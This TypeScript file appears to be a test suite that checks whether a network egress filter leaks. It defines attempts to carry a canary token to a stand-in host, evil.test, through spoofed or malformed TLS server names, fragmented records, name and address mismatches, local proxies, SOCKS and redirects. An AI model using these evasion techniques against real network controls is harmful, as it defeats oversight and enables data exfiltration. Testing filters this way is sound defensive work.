/** What can be done with the first message of TLS, and proxies of one's own. The token is in the message itself: that it arrives is enough. */
import { type Attempt, type Ground, request, type Step, send, tls } from "./attempt.js";
import { clientHello, type Hello, records } from "./client-hello-bytes.js";

export function helloAttempts(ground: Ground): Attempt[] {
  return [...handMade(ground), ...fragmented(ground), ...withLibrary(ground), ...proxies(ground)];
}

const passed = "pass.test";
/** The random values are in the first of them, the token whole in a later one. */
const mostHelloBytes = 80;

function handMade({ https }: Ground): Attempt[] {
  const hellos: Record<string, (token: string) => Hello> = {
    "another server name": (token) => ({ names: [`${token}.evil.test`] }),
    "a server name below it": (token) => ({ names: [`${token}.${passed}`] }),
    "no server name": (token) => ({ names: null, protocols: [token] }),
    "two server names, the right one first": (token) => ({ names: [passed, `${token}.evil.test`] }),
    "two server names, the right one last": (token) => ({ names: [`${token}.evil.test`, passed] }),
    "two server name extensions": (token) => ({ names: [passed], moreNames: [`${token}.evil.test`] }),
    "a server name with a NUL": (token) => ({ names: [`${passed}\0.${token}.evil.test`] }),
    "a server name with a port": (token) => ({ names: [`${passed}:443`], protocols: [token] }),
    "an address as its server name": (token) => ({ names: ["127.0.0.1"], protocols: [token] }),
    "a server name with a line break": (token) => ({ names: [`${passed}\r\n${token}`] }),
    "an empty server name": (token) => ({ names: [""], protocols: [token] }),
    "another server name and an encrypted hello": (token) => ({ names: ["evil.test"], encrypted: token }),
  };
  return Object.entries(hellos).map(
    ([what, hello]): Attempt => ({
      name: `a ClientHello with ${what}`,
      control: "direct",
      steps: (token) => [{ connect: { host: passed, port: https } }, send(records(clientHello(hello(token))))],
    }),
  );
}

function fragmented({ https, raw }: Ground): Attempt[] {
  const connect = { connect: { host: passed, port: https } };
  const evil = (token: string) => clientHello({ names: [`${token}.evil.test`] });
  return [
    {
      name: "another server name in many records",
      control: "direct",
      steps: (token) => [connect, send(records(evil(token), mostHelloBytes))],
    },
    {
      name: "another server name byte by byte",
      control: "direct",
      steps: (token) => [connect, ...[...records(evil(token))].map((byte) => send(Buffer.from([byte])))],
    },
    {
      name: "another server name after 400 ms",
      control: "direct",
      steps: (token) => [connect, { pauseMs: 400 }, send(records(evil(token)))],
    },
    {
      name: "another server name, half of it after 400 ms",
      control: "direct",
      steps: (token) => {
        const bytes = records(evil(token));
        return [connect, send(bytes.subarray(0, 3)), { pauseMs: 400 }, send(bytes.subarray(3))];
      },
    },
    {
      name: "a ClientHello that is cut off in its head, and then something else",
      control: "direct",
      steps: (token) => [connect, send(Buffer.from([22, 3])), { pauseMs: 400 }, send(token)],
    },
    {
      name: "a second ClientHello in the record of the first",
      control: "direct",
      steps: (token) => [connect, send(records(Buffer.concat([clientHello({ names: [passed] }), evil(token)])))],
    },
    {
      name: "an alert before another server name",
      control: "direct",
      steps: (token) => [connect, send(Buffer.concat([Buffer.from([21, 3, 1, 0, 2, 1, 0]), records(evil(token))]))],
    },
    {
      name: "an empty record before another server name",
      control: "direct",
      steps: (token) => [connect, send(Buffer.concat([Buffer.from([22, 3, 1, 0, 0]), records(evil(token))]))],
    },
    {
      name: "a ClientHello of SSL 2",
      control: "direct",
      steps: (token) => [
        connect,
        send(Buffer.concat([Buffer.from([0x80, 46, 1, 3, 1, 0, 3, 0, 0, 0, 16]), Buffer.from(token)])),
      ],
    },
    {
      name: "an old protocol's first bytes where TLS is let through",
      steps: (token) => [{ connect: { host: passed, port: raw } }, send(`SSH-2.0-${token}\r\n`)],
    },
    {
      name: "what no ClientHello is, in records of TLS",
      control: "direct",
      steps: (token) => [
        connect,
        send(records(Buffer.concat([Buffer.from([2, 0, 0, token.length]), Buffer.from(token)]))),
      ],
    },
  ];
}

function withLibrary({ https, otherHttps }: Ground): Attempt[] {
  const get = (host: string) => (token: string) => send(request(`GET /public/${token}`, `Host: ${host}`));
  const to = (host: string, port = https): Step => ({ connect: { host, port } });
  return [
    {
      name: "TLS for another name to the allowed one's address",
      control: "direct",
      steps: (token) => [to("good.test"), tls("evil.test", "http/1.1"), get("evil.test")(token)],
    },
    {
      name: "TLS for the allowed name to another one's address",
      control: "direct",
      steps: (token) => [to("evil.test"), tls("good.test", "http/1.1"), get(`good.test:${https}`)(token)],
    },
    {
      name: "TLS for the name that is let through to another one's address",
      control: "direct",
      steps: (token) => [to("evil.test"), tls(passed, "http/1.1"), get(passed)(token)],
    },
    {
      name: "TLS without a name to the allowed one's address",
      control: "direct",
      steps: (token) => [to("good.test"), tls(null, "http/1.1"), get(`good.test:${https}`)(token)],
    },
    {
      name: "TLS 1.2 to another path",
      steps: (token) => [
        to("good.test"),
        { tls: { name: "good.test", protocols: [], most: "1.2" } },
        send(request(`GET /private/${token}`, `Host: good.test:${https}`)),
      ],
    },
    {
      name: "TLS that is no HTTP inside, to the allowed name",
      steps: (token) => [to("good.test"), tls("good.test"), send(`\x00\x01${token}\n`)],
    },
    {
      name: "TLS that agrees on a protocol of its own, to the allowed name at another port",
      steps: (token) => [to("good.test", otherHttps), tls("good.test"), send(`EHLO ${token}\r\n`)],
    },
  ];
}

function proxies({ https, http, raw, own4 }: Ground): Attempt[] {
  const lacks = own4 === undefined ? "this host has no IPv4 address that others reach it by" : undefined;
  const socks = (token: string) => [send(Buffer.from([5, 1, 0])), send(token)];
  return [
    {
      name: "HTTPS by a proxy on the host",
      lacks,
      control: "direct",
      steps: (token) => [
        { fetch: { url: `https://${token}.evil.test/`, proxies: { https: `http://${own4}:${raw}` } } },
      ],
    },
    {
      name: "HTTP by a proxy on the host",
      lacks,
      control: "direct",
      steps: (token) => [{ fetch: { url: `http://evil.test/${token}`, proxies: { http: `http://${own4}:${http}` } } }],
    },
    {
      name: "SOCKS to the host",
      lacks,
      steps: (token) => [{ connect: { host: own4 ?? "", port: raw } }, ...socks(token)],
    },
    {
      name: "SOCKS to another name",
      steps: (token) => [{ connect: { host: "evil.test", port: raw } }, ...socks(token)],
    },
    {
      name: "a redirect from the allowed name to another, followed",
      steps: (token) => [
        {
          fetch: {
            url: `https://good.test:${https}/public/redirect/http/evil.test:${http}/${reversed(token)}`,
            proxies: {},
          },
        },
      ],
    },
    {
      name: "a redirect from the allowed name to its other paths, followed",
      steps: (token) => [
        {
          fetch: {
            url: `https://good.test:${https}/public/redirect/https/good.test:${https}/private/${reversed(token)}`,
            proxies: {},
          },
        },
      ],
    },
  ];
}

/** The canary turns it round: it is not in the first request. */
function reversed(token: string): string {
  return [...token].reverse().join("");
}
